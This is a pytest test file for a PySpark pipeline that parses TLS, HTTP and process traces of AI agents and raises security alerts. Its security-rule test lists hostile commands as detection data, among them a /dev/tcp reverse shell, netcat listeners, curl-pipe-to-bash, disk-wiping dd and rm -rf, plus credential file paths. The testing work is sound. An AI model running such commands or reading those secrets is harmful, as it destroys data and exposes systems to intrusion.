import json

import pytest
from events import frame, payloads
from pyspark.sql import functions as F

from traceloom.functions.scalar import fnv1a64, hex_text, hextets, ipv4_text, ipv6_text, is_private, ns_to_ms, sanitize
from traceloom.operators import process, project, security, viewer
from traceloom.operators.filters import changed_credentials, http_filter, is_noise, keep, min_lifetime, ssl_filter
from traceloom.operators.http import parse_http, remove_auth
from traceloom.operators.spans import EXTRACTORS, Extractor, aggregate_calls, spans, used
from traceloom.operators.sse import merge_sse
from traceloom.operators.tooluse import correlate, summary, tool_uses
from traceloom.plans.chains import Pipeline, ssl_chain, trace_chain
from traceloom.sources.logs import app_log, split_lines, synthetic

REQUEST = "GET /api/v1/users HTTP/1.1\r\nHost: example.com\r\nUser-Agent: curl\r\n\r\n"
RESPONSE = "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}"
CHUNK1 = '5\r\nevent: message_start\r\n1f\r\ndata: {"message":{"id":"m1"}}\r\n0\r\n\r\n'
CHUNK2 = '5\r\nevent: message_stop\r\n11\r\ndata: {"done":true}\r\n0\r\n\r\n'


def ssl(text, ns=1_234_567_890, **more):
    return ("ssl", 1234, "curl", ns, {"data": text} | more)


def test_http_messages(spark):
    a, b = payloads(parse_http(frame(spark, [ssl(REQUEST), ssl(RESPONSE, 1_234_567_891)])))
    assert (a["message_type"], a["method"], a["path"], a["protocol"], a["total_size"], a["has_body"]) == ("request", "GET", "/api/v1/users", "HTTP/1.1", 67, False)
    assert a["headers"] == {"host": "example.com", "user-agent": "curl"} and "body" not in a
    assert (b["message_type"], b["status_code"], b["status_text"], b["body"], b["content_length"], b["total_size"]) == ("response", 200, "OK", "{}", 2, 72)


def test_http_last_header_wins_and_others_pass(spark):
    df = frame(spark, [ssl("GET /x HTTP/1.1\r\nA: 1\r\na: 2\r\nno colon\r\nTransfer-Encoding: chunked\r\n\r\n"), ssl("plain text"), ("process", 1, "a", 5, {"event": "EXEC"}), ssl(None), ("ssl", 1, "x", 9, "no json")])
    out = parse_http(df)
    assert out.where("source = 'ssl'").count() == 3
    (m,) = payloads(out, "http_parser")
    assert m["headers"]["a"] == "2" and m["is_chunked"]


def test_auth_headers_go(spark):
    out = payloads(remove_auth(parse_http(frame(spark, [ssl("GET /x HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer t\r\nCookie: \"c\"\r\n\r\n")]))))
    assert out[0]["headers"] == {"host": "a"} and out[0]["path"] == "/x"


def test_auth_headers_go_from_any_json(spark):
    """Spaces, escapes and numbers of another writer; headers that are none; a payload that can't be read."""
    texts = ['{"headers": {"Authorization" : "Bearer t", "Host":"a"}, "n":1.0}', '{"headers":{"X-API-KEY":"a\\u0026b","host":"a"}}', '{"headers":{"token":1.0,"host":"a","n":2.50}}', '{"headers":"x"}', '{"headers":{"token":"t"}, broken', '{"body":"b"}']
    out = [r["data"] for r in remove_auth(frame(spark, [("http_parser", 1, "a", i + 1, t) for i, t in enumerate(texts)] + [("ssl", 1, "a", 99, texts[0])])).orderBy("timestamp_ns").collect()]
    assert [json.loads(t) for t in out[:4]] == [{"headers": {"Host": "a"}, "n": 1.0}, {"headers": {"host": "a"}}, {"headers": {"host": "a", "n": 2.5}}, {"headers": "x"}]
    assert json.loads(out[4]) == {} and json.loads(out[5]) == {"body": "b"} and out[6] == texts[0]


def test_ids_are_unique(spark):
    rows = [ssl(REQUEST, 1), ssl(REQUEST, 2), ssl(CHUNK1, 3), ssl(CHUNK2, 4), *exec_open()]
    t = project.typed_tables(aggregate_calls(parse_http(merge_sse(frame(spark, rows, True))), "append"))
    ids = [r["id"] for n in ("events_http", "events_sse", "events_tool_call", "events_ssl") for r in t[n].collect()]
    assert len(ids) == 6 == len(set(ids))


def test_sse_sessions_and_ordinary_bodies(spark):
    df = frame(spark, [ssl(CHUNK1, 1), ssl(CHUNK2, 2)], True)
    two = df.unionByName(df.withColumn("session_id", F.lit("s2")))
    assert sorted(r["session_id"] for r in merge_sse(two).collect()) == ["s1", "s2"]
    chunked = "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n1f\r\n{\"a\":\"data: x\"}\r\n0\r\n\r\n"
    out = merge_sse(frame(spark, [ssl(chunked, 1)], True)).collect()
    assert [(r["source"], json.loads(r["data"])["data"], r["session_id"], r["stream_seq"]) for r in out] == [("ssl", chunked, "s1", 1)]


def test_sse_messages(spark):
    rows = [ssl(CHUNK1, 1_234_567_900), ssl(CHUNK2, 1_234_567_910)]
    (m,) = payloads(merge_sse(frame(spark, rows)))
    assert (m["connection_id"], m["message_id"], m["duration_ns"], m["event_count"], m["has_message_start"], m["total_size"], m["function"]) == ("1234:0:0", "m1", 10, 2, True, 0, "unknown")
    alone = merge_sse(frame(spark, rows[:1])).collect()
    assert (alone[0]["pid"], alone[0]["comm"]) == (0, "")


def test_sse_content_gathers(spark):
    delta = lambda kind, **x: "a\r\nevent: content_block_delta\r\nb\r\ndata: " + json.dumps({"delta": {"type": kind, **x}}) + "\r\n0\r\n\r\n"
    rows = [ssl(CHUNK1, 1), ssl(delta("text_delta", text="Hé"), 2), ssl(delta("thinking_delta", thinking="y"), 3), ssl(delta("input_json_delta", partial_json='{"a":'), 4), ssl(delta("input_json_delta", partial_json="1}"), 5), ssl(CHUNK2, 6), ssl("event: x\ndata: not chunked\n\n", 7)]
    out = merge_sse(frame(spark, rows))
    (m,) = payloads(out, "sse_processor")
    assert m["text_content"] == "Héy" and m["json_content"] == '{\n  "a": 1\n}' and m["total_size"] == len("Héy".encode()) + len(m["json_content"])
    assert out.where("source = 'ssl'").count() == 1


def exec_open():
    return [("process", 4321, "bash", 1_234_568_000, {"event": "EXEC", "filename": "/usr/bin/git", "full_command": "git status"}), ("process", 4321, "bash", 1_234_568_010, {"event": "FILE_OPEN", "filepath": "/etc/passwd", "flags": 0})]


def test_spans(spark):
    out = aggregate_calls(frame(spark, exec_open()))
    assert out.count() == 4 and out.where("source = 'process'").count() == 0
    starts = {p["tool_name"]: p for p in payloads(out) if p["event_type"] == "tool_call_start"}
    ends = {p["tool_name"]: p for p in payloads(out) if p["event_type"] == "tool_call_end"}
    assert starts["proc.exec"]["args_hash"] == "f1fad301d14b9093" and starts["fs.read"]["args_hash"] == "c7e2190ee3ff679d"
    assert (ends["proc.exec"]["status"], ends["proc.exec"]["reason"]) == ("success", "exec") and (ends["fs.read"]["status"], ends["fs.read"]["reason"]) == ("timeout", "flush")


def test_spans_split_after_a_minute_and_a_pause(spark):
    opened = lambda ms: ("process", 1, "a", ms * 1_000_000, {"event": "FILE_OPEN", "filepath": "/x", "flags": 1})
    rows = [opened(900 * i) for i in range(80)] + [opened(900 * 79 + 5000)]
    found = spans(frame(spark, rows)).orderBy("start_ns").collect()
    assert [(r["reason"], r["calls"]) for r in found] == [("max_span", 67), ("idle_gap", 13), ("flush", 1)] and found[0]["tool_name"] == "fs.write"
    assert sum(r["calls"] for r in found) == len(rows)


def test_own_extractors_and_limits(spark):
    """More kinds of tool uses, and other pauses, without touching the operator."""
    deleted = Extractor("process", lambda f: F.when((f("event") == "FILE_DELETE") & (f("size", raw=True) > 5), used(F.lit("fs.delete"), f("filepath"), F.lit("x"))), "size bigint")
    event = lambda ns, size: ("process", 1, "a", ns, {"event": "FILE_DELETE", "filepath": "/x", "size": size})
    df = frame(spark, [event(1, 9), event(2_000_000_000, 9), event(3, 2), *exec_open()])
    found = spans(df, [*EXTRACTORS, deleted], idle_ns=5_000_000_000).where("tool_name = 'fs.delete'").collect()
    assert [(r["calls"], r["key_field"]) for r in found] == [(2, "/x")]
    assert spans(df, [deleted]).count() == 2
    assert aggregate_calls(df, "replace", [deleted]).where("source = 'process'").count() == 3


def test_columns_by_kind(spark):
    """A column holds a value only in events of its kind."""
    everything = {"filepath": "/f", "flags": 1, "oldpath": "/o", "newpath": "/n", "path": "/p", "mode": 7, "ip": "1.1.1.1", "port": 70000, "family": 2, "command": "ls"}
    kinds = ["FILE_OPEN", "FILE_RENAME", "DIR_CREATE", "NET_CONNECT", "BASH_READLINE", "EXEC"]
    rows = project.typed(frame(spark, [("process", 1, "a", i + 1, {"event": k, **everything}) for i, k in enumerate(kinds)], True), "events_process").orderBy("timestamp_ns").collect()
    names = ["filepath", "filepath2", "file_flags", "net_ip", "net_port", "net_family", "dir_mode", "bash_command"]
    want = [{"filepath": "/f", "file_flags": 1}, {"filepath": "/o", "filepath2": "/n"}, {"filepath2": "/p", "dir_mode": 7}, {"net_ip": "1.1.1.1", "net_port": 70000, "net_family": 2}, {"bash_command": "ls"}, {}]
    assert [{n: r[n] for n in names if r[n] is not None} for r in rows] == want


def use(ns, *ids):
    return ("http_parser", 100, "claude", ns, {"message_type": "response", "body": json.dumps({"content": [{"type": "tool_use", "id": i, "name": "Read", "input": {"p": 1}} for i in ids]})})


def result(ns, *ids):
    return ("http_parser", 100, "claude", ns, {"message_type": "request", "body": json.dumps({"messages": [{"role": "user", "content": [{"type": "tool_result", "tool_use_id": i, "content": "done"} for i in ids]}]})})


def opened(ns):
    return ("process", 200, "node", ns, {"event": "FILE_OPEN", "filepath": "/f"})


def test_tool_use_lifecycle(spark):
    rows = [opened(500_000), use(1_000_000, "t1", "t2"), opened(1_500_000), result(2_000_000, "t1"), result(3_000_000, "t1", "t2")]
    found = {r["tool_use_id"]: r for r in tool_uses(frame(spark, rows, True)).collect()}
    assert {i: (r["status"], r["duration_ms"], len(r["os_activities"])) for i, r in found.items()} == {"t1": ("success", 1, 1), "t2": ("success", 2, 1)}
    out = correlate(frame(spark, rows, True))
    assert out.count() == len(rows) + 2


@pytest.mark.parametrize("text", ["a" * 200, "a" * 201, "é" * 100, "é" * 101, "a" + "é" * 100, "a" + "你" * 80, "aa" + "你" * 80, "a" * 199 + "😀" + "b" * 9, "x" * 198 + "😀", "x" * 199 + "\ufffd" * 3, ""])
def test_summaries_are_cut_at_bytes(spark, text):
    raw = text.encode()
    whole = raw[:200].decode("utf-8", "ignore")
    want = text if len(raw) <= 200 else whole + "\ufffd" * (200 - len(whole.encode())) + "..."
    assert spark.createDataFrame([(text,)], "s string").select(summary(F.col("s"))).first()[0] == want


def test_tool_use_without_result_or_activity(spark):
    found = tool_uses(frame(spark, [use(1_000_000, "t1"), ("http_parser", 1, "c", 2, {"message_type": "response", "body": "text"})], True)).collect()
    assert len(found) == 1 and found[0]["status"] == "timeout" and found[0]["duration_ms"] == 30_000 and found[0]["os_activities"] is None


SENSITIVE = {"/etc/passwd": 1, "/etc/shadow": 1, "/etc/sudoers": 1, "~/.env": 1, "~/.ssh/id_rsa": 1, "~/.aws/credentials": 1, "~/.kube/config": 1, "/proc/self/maps": 1, "/home/user/code.go": 0, "/tmp/test.txt": 0, "/usr/bin/ls": 0}
COMMANDS = {
    "rm -rf /": 1, "rm -r /home/user": 1, "chmod 777 /tmp/test": 1, "curl http://x | bash": 1, "wget http://x | bash": 1, "mkfifo /tmp/pipe": 1, "nc -lp 4444": 1, "bash -i >& /dev/tcp/10.0.0.1/443": 1,
    "dd if=/dev/zero of=/dev/sda": 1, "echo test > /etc/shadow": 1, "ls -la": 0, "cat /etc/hosts": 0, "git commit -m test": 0, "rm -fr /": 0, "rm -f -r x": 0, "curl x | sh": 0,
}
NETWORK = {("203.0.113.1", 4444): 1, ("203.0.113.1", 31337): 1, ("203.0.113.1", 443): 0, ("203.0.113.1", 7897): 0, ("8.8.8.8", 4444): 1, ("127.0.0.1", 4444): 0, ("10.107.12.201", 4444): 0, ("172.31.255.255", 4444): 0, ("172.32.0.1", 4444): 1, ("192.168.1.1", 4444): 0, ("169.254.1.1", 4444): 0, ("::1", 4444): 0, ("fd00::1", 4444): 0, ("::ffff:10.0.0.1", 4444): 0, ("2001:db8::1", 4444): 1, ("nonsense", 4444): 1, (None, 4444): 1, ("8.8.8.8", 0): 0}


def test_security_rules(spark):
    rows = [("process", 1, "a", i, {"event": "FILE_OPEN", "filepath": p}) for i, p in enumerate(SENSITIVE)]
    rows += [("process", 2, "b", 1000 + i, {"event": "EXEC", "full_command": c}) for i, c in enumerate(COMMANDS)]
    rows += [("process", 3, "c", 2000 + i, {"event": "NET_CONNECT", "ip": ip, "port": port}) for i, (ip, port) in enumerate(NETWORK)]
    rows += [("process", 4, "d", 3000, {"event": "CRED_CHANGE"}), ("security", 5, "e", 4000, {"event": "CRED_CHANGE"}), ("process", 6, "f", 5000, "no json")]
    df = frame(spark, rows)
    out = security.analyze(df)
    assert out.count() == len(rows) + sum(SENSITIVE.values()) + sum(COMMANDS.values()) + sum(NETWORK.values()) + 1
    found = {(r["alert_type"], r["timestamp_ns"]) for r in out.where("source = 'security' AND pid <> 5").selectExpr("get_json_object(data, '$.alert_type') alert_type", "timestamp_ns").collect()}
    want = {("sensitive_file_access", i) for i, w in enumerate(SENSITIVE.values()) if w} | {("dangerous_command", 1000 + i) for i, w in enumerate(COMMANDS.values()) if w} | {("suspicious_network", 2000 + i) for i, w in enumerate(NETWORK.values()) if w} | {("credential_change", 3000)}
    assert found == want
    strict = security.alerts(df, security.rules(strict=True)).where("data LIKE '%dangerous%'").count()
    assert strict == sum(COMMANDS.values()) + 3


def test_noise_paths(spark):
    paths = {"/proc/1": True, "/sys/x": True, "/usr/lib/a": True, "/etc/foo.lock": False, "/etc/ld.so.cache": True, "/etc/passwd": False, "/a/b.so": True, "/a/b.so.1": True, "/x/node_modules/y": True, ".git/objects/ab": True, "/r/.git/objects/x": True, "/tmp/a.pid": True, "/tmp/a.txt": False}
    df = spark.createDataFrame([(p,) for p in paths], "p string")
    assert {r[0]: r[1] for r in df.select("p", is_noise(F.col("p"))).collect()} == paths


@pytest.mark.parametrize(("expression", "left"), [("len>5", [1]), ("len>=1 & function=READ/RECV", [2, 3]), ("(len=3|len=9)&data~b", [2, 3]), ("data=abc|uid!=7", [2]), ("latency_ms<1.5", [2]), ("nothing=1", [1, 2, 3]), ("data.type=binary", [1, 2]), (r"data=a\r\nb", [1, 2, 3]), ("is_handshake=true", [1, 2]), ("len>x", [1, 2, 3])])
def test_ssl_expressions(spark, expression, left):
    rows = [ssl("abc", 1, len=3, function="READ/RECV", uid=7, latency_ms=1.0), ssl("xyz", 2, len=9, uid=7), ssl("a\u0001", 3, len=9, uid=8, latency_ms=1.0, is_handshake=True)]
    assert [r["timestamp_ns"] for r in ssl_filter(frame(spark, rows), [expression]).orderBy("timestamp_ns").collect()] == left


@pytest.mark.parametrize(("expression", "left"), [("/api", [2, 3]), ("method=get", [2, 3]), ("request.path=/api?x=1&y=2", [1, 2, 3]), ("x=1", [2, 3]), ("host=h", [2, 3]), ("response.status=200", [1, 3]), ("resp.status_text=ok", [1, 3]), ("response.server=ng", [1, 3]), ("response.body=", [1]), ("res.body=zz|x=1", [3]), ("response.X-Foo=1", [1, 2, 3])])
def test_http_expressions(spark, expression, left):
    rows = [("http_parser", 1, "a", 1, {"message_type": "request", "method": "GET", "path": "/api?x=1", "headers": {"host": "h"}}), ("http_parser", 1, "a", 2, {"message_type": "response", "status_code": 200, "status_text": "OK", "headers": {"server": "nginx"}, "body": "zz"}), ("http_parser", 1, "a", 3, "no json")]
    left = [3] + [1] if expression == "response.body=" else left
    assert sorted(r["timestamp_ns"] for r in http_filter(frame(spark, rows), [expression]).collect()) == sorted(left)


def test_collector_filters(spark):
    rows = [("ssl", 1, "a", 1, {"uid": 1, "is_handshake": True}), ("ssl", 1, "a", 2, {"uid": 1}), ("ssl", 1, "b", 3, {"uid": 2})]
    assert [r["timestamp_ns"] for r in keep(frame(spark, rows), comm="a", uid=1).collect()] == [2]
    life = [("process", 1, "a", 1, {"event": "EXEC"}), ("process", 1, "a", 2, {"event": "EXIT", "duration_ms": 5}), ("process", 1, "a", 3, {"event": "EXIT"}), ("process", 1, "a", 4, {"event": "FILE_OPEN"})]
    assert [r["timestamp_ns"] for r in min_lifetime(frame(spark, life), 5).orderBy("timestamp_ns").collect()] == [2, 4]
    cred = [("process", 1, "a", 1, {"event": "CRED_CHANGE", "old": {"uid": 1}, "new": {"uid": 1}}), ("process", 1, "a", 2, {"event": "CRED_CHANGE", "old": {"uid": 1}, "new": {"uid": 0}})]
    assert [r["timestamp_ns"] for r in changed_credentials(frame(spark, cred)).collect()] == [2]


def test_scalars(spark):
    df = spark.createDataFrame([("path=/proc/451/cmdline flags=524288", "a\u0001b", -5, 0x0100007F)], "s string, b string, n bigint, ip bigint")
    r = df.select(fnv1a64("s").alias("h"), hex_text(F.col("b")).alias("x"), ns_to_ms(F.col("n")).alias("n"), ipv4_text(F.col("ip")).alias("ip"), is_private(F.lit("10.0.0.1")).alias("p")).first()
    assert tuple(r) == ("18768827c5b0b891", "HEX:610162", 0, "127.0.0.1", True)


def test_sanitize(spark):
    df = spark.createDataFrame([(bytearray(b"a\n\xc3\xa9\xff\x01"),), (None,)], "b binary")
    assert [r[0] for r in df.select(sanitize("b")).collect()] == ["a\né\\u00ff\\u0001", None]


def test_track(spark):
    ex = lambda pid, ppid, comm, ns: ("process", pid, comm, ns, {"event": "EXEC", "ppid": ppid, "filename": "/x"})
    rows = [ex(1, 0, "init", 1), ex(2, 1, "agent", 2), ex(3, 2, "sh", 3), ex(4, 3, "git", 4), ex(9, 1, "other", 5), ("process", 4, "git", 6, {"event": "FILE_OPEN", "filepath": "/a"}), ("process", 9, "other", 7, {"event": "FILE_OPEN", "filepath": "/a"})]
    df = frame(spark, rows)
    assert sorted(r["timestamp_ns"] for r in process.track(df, comms=["agent"]).collect()) == [2, 3, 4, 6]
    assert sorted(r["timestamp_ns"] for r in process.track(df, 1, comms=["agent"]).collect()) == [1, 2, 3, 4, 5, 6]
    assert process.track(df).count() == len(rows)


def test_track_follows_lives(spark):
    """A pid that is used again after its EXIT is another process; a child started before its parent was tracked isn't one."""
    ex = lambda pid, ppid, comm, ns: ("process", pid, comm, ns, {"event": "EXEC", "ppid": ppid, "filename": "/x"})
    out = lambda pid, ns: ("process", pid, "x", ns, {"event": "EXIT"})
    opened = lambda pid, ns: ("process", pid, "x", ns, {"event": "FILE_OPEN", "filepath": "/a"})
    rows = [ex(5, 2, "early", 1), ex(2, 1, "agent", 2), ex(3, 2, "sh", 3), out(3, 4), ex(3, 1, "other", 5), opened(3, 6), ex(4, 3, "of other", 7), opened(2, 8), out(2, 9), ex(6, 2, "orphan", 10), opened(5, 11), opened(7, 12)]
    assert sorted(r["timestamp_ns"] for r in process.track(frame(spark, rows), comms=["agent"]).collect()) == [2, 3, 4, 8, 9]
    seeds = spark.createDataFrame([("", 7)], "session_id string, pid long")
    assert [r["timestamp_ns"] for r in process.track(frame(spark, rows), seeds=seeds).collect()] == [12]


def test_private_networks(spark):
    cases = {"::1": 1, "0:0:0:0:0:0:0:1": 1, "fd00::1": 1, "FC00::": 1, "::ffff:10.0.0.1": 1, "::ffff:a00:1": 1, "::ffff:8.8.8.8": 0, "2001:db8::1": 0, "fe80::1": 0, "1:2:3": 0, "::1::2": 0, ":::1": 0, "12345::": 0, "10.0.0.1": 1, "10.0.0": 0, "172.16.0.1": 1, "172.32.0.1": 0, "": 0, "1:2:3:4:5:6:7:8:9": 0}
    df = spark.createDataFrame([(x,) for x in cases], "ip string")
    assert {r[0]: int(r[1]) for r in df.select("ip", is_private(F.col("ip"))).collect()} == cases
    assert "Python" not in df.select(is_private(F.col("ip")))._jdf.queryExecution().toString()
    texts = {"2001:db8:0:0:0:0:0:1": "2001:db8::1", "::": "::", "1:0:0:2:0:0:0:3": "1:0:0:2::3", "::1": "::1", "1:2:3:4:5:6:7:8": "1:2:3:4:5:6:7:8"}
    df = spark.createDataFrame([(x,) for x in texts], "ip string")
    assert {r[0]: r[1] for r in df.select("ip", ipv6_text(hextets(F.col("ip")))).collect()} == texts


def test_long_chains(spark):
    """A chain of 150 processes, and two that are each other's parent."""
    ex = lambda pid, ppid: ("process", pid, "agent" if pid == 1 else "sh", pid, {"event": "EXEC", "ppid": ppid, "filename": "/x"})
    df = frame(spark, [ex(i, i - 1) for i in range(1, 151)] + [ex(201, 202), ex(202, 201)], True)
    tree = project.process_tree(project.typed(df, "events_process"))
    assert {r["pid"]: r["depth"] for r in tree.collect()} == {i: i - 1 for i in range(1, 151)} | {201: None, 202: None}
    nodes = tree.select("session_id", "pid", "ppid")
    got = sorted((r["root"], r["pid"], r["depth"]) for r in project.descendants(nodes, nodes).collect())
    assert got == [(i, j, j - i) for i in range(1, 151) for j in range(i + 1, 151)] + [(201, 201, 2), (201, 202, 1), (202, 201, 1), (202, 202, 2)]
    assert process.track(df, comms=["agent"]).count() == 150


def test_typed_tables(spark):
    rows = [
        ("process", 1, "a", 1_000_000, {"event": "EXEC", "ppid": 1, "filename": "/usr/bin/test"}), ("process", 1, "a", 2_000_000, {"event": "DIR_CREATE", "path": "/d", "mode": 493}), ("process", 1, "a", 3_000_000, {"event": "FILE_RENAME", "oldpath": "/o", "newpath": "/n"}),
        ("process", 1, "a", 4_000_000, {"event": "EXIT", "exit_code": "1"}), ("system", 1, "a", 5_000_000, {"type": "m", "cpu": {"percent": "12.5"}, "memory": {"rss_kb": 25552}, "process": {"threads": 11.0}, "alert": True}), ("tool_call", 1, "a", 6_000_000, '{"event_type":"tool_call_start"}'),
        ("tool_call", 1, "a", 7_000_000, {"event_type": "tool_call_end", "tool_name": "fs.read", "status": "success", "duration_ms": 42, "bytes": 1024}), ("stdio", 1, "a", 8_000_000, {}), ("process", 1, "a", 9_000_000, "broken"),
        ("security", 1, "a", 10_000_000, {"alert_type": "x", "source_table": "events_process", "source_stream_seq": "1", "evidence": [{"pid": 1}]}), ("security", 1, "a", 11_000_000, {"source_event_id": 42}),
    ]
    t = project.typed_tables(frame(spark, rows, True))
    p = t["events_process"].orderBy("timestamp_ns").collect()
    assert [(r["filepath"], r["filepath2"], r["dir_mode"]) for r in p[1:3]] == [(None, "/d", 493), ("/o", "/n", None)] and p[3]["exit_code"] is None and p[4]["event_type"] is None
    (s,) = t["events_system"].collect()
    assert (s["cpu_percent"], s["mem_rss_kb"], s["thread_count"], s["sys_alert"]) == (12.5, 25552, 11, True)
    assert t["events_tool_call"].count() == 1
    a = t["events_security"].orderBy("timestamp_ns").collect()
    assert a[0]["source_event_id"] == p[0]["id"] and a[1]["source_event_id"] == 42 and json.loads(a[0]["evidence_json"]) == [{"pid": 1}]
    (tree,) = t["process_tree"].collect()
    assert tree["filename"] == "/usr/bin/test" and tree["depth"] == 0 and tree["end_time"] is not None
    assert t["event_links"].count() == 2


def test_chains(spark):
    df = synthetic(spark, 3)
    assert ssl_chain()(df).where("source = 'http_parser'").count() == 6
    out = Pipeline([df, None]).with_transforms(trace_chain(ssl=True)).run()
    assert out.count() == 6


def test_logs(spark):
    good, bad = split_lines(spark.createDataFrame([('{"stream_seq":1,"timestamp_ns":5,"source":"ssl","pid":1,"comm":"a","data":{"x":1}}',), ("{broken",), ('{"source":"ssl"}',)], "value string"))
    assert [json.loads(r["data"]) for r in good.collect()] == [{"x": 1}] and bad.count() == 2
    (r,) = app_log(spark.createDataFrame([('{"msg":"hi","level":"WARN","time":"2024-01-01T00:00:00Z"}',), ("x",)], "value string")).collect()
    assert (r["message"], r["level"]) == ("hi", "warn")


def test_viewer(spark):
    rows = [("http_parser", 1, "a", 1, {"method": "POST", "path": "/v1/messages", "message_type": "request", "body": '{"model":"m1"}'}), ("process", 1, "a", 2, {"event": "FILE_OPEN", "filepath": "/x"}), ("stdio", 1, "a", 3, {"data": '{"id":1,"method":"tools/call","params":{"name":"read"}}'}), ("tool_call", 1, "a", 4, {"tool_name": "fs.read"}), ("system", 1, "a", 5, {})]
    df = frame(spark, rows)
    assert [(r["event_kind"], r["model"]) for r in viewer.classified(df).orderBy("timestamp_ns").collect()] == [("prompt", "m1"), ("file", None), ("stdio", None), ("file", None), ("system", None)]
    probes = [("http_parser", {"message_type": "response", "status_code": 200}, "ssl"), ("http_parser", {"message_type": "response", "usage": {"n": 1}}, "response"), ("x", {"delta": {}}, "response"), ("x", {"delta": ""}, "ssl"), ("process", {"event": "DIR_CREATE", "path": "/d"}, "process"), ("ssl", {"fd": None}, "file"), ("x", {"type": "my_system"}, "system"), ("x", {"ppid": 1}, "process"), ("http_parser", {"method": "POST", "path": "/v1/"}, "ssl"), ("sse_processor", {"sse_events": []}, "response")]
    found = viewer.classified(frame(spark, [(s, 1, "a", i + 1, d) for i, (s, d, _) in enumerate(probes)])).orderBy("timestamp_ns").collect()
    assert [r["event_kind"] for r in found] == [k for _, _, k in probes]
    (r,) = viewer.json_rpc(df).collect()
    assert (r["rpc_kind"], r["tool"], r["title"]) == ("request", "read", "tools/call read")
    p = spark.createDataFrame([(1, 1, '{"a":1,"b":[1,{}]}'), (1, 2, '{"a":2,"c":"x","b":[1]}')], "pid int, t int, data string")
    r = viewer.prompt_changes(p, ["pid"], ["t"]).where("t = 2").withColumn("said", viewer.change_summary()).first()
    assert (r["added"], r["removed"], r["modified"], r["unchanged"], r["said"]) == (["c"], [], ["a"], ["b[0]"], "Added 1 fields. Modified 1 fields.")
